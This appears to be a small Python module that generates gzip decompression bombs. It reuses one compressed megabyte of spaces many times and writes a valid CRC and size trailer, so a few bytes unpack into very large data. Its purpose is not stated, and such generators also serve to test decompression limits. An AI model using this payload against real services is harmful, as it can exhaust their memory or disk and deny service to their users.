"""Few bytes that unfold into many, made in less time than packing them all takes."""

import struct
import zlib

_PIECE = b" " * (1 << 20)
_HEADER = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"


def gzip_bomb(head: bytes, megabytes: int) -> bytes:
    """One gzip member of `head` and so many megabytes of spaces.

    After a full flush the packed form of a piece depends on nothing before it: it is packed once.
    """
    packer = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    begun = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(_PIECE) + packer.flush(zlib.Z_FULL_FLUSH)
    check = zlib.crc32(head)
    for _ in range(megabytes):
        check = zlib.crc32(_PIECE, check)
    size = len(head) + megabytes * len(_PIECE)
    return _HEADER + begun + piece * megabytes + packer.flush() + struct.pack("<LL", check, size & 0xFFFFFFFF)
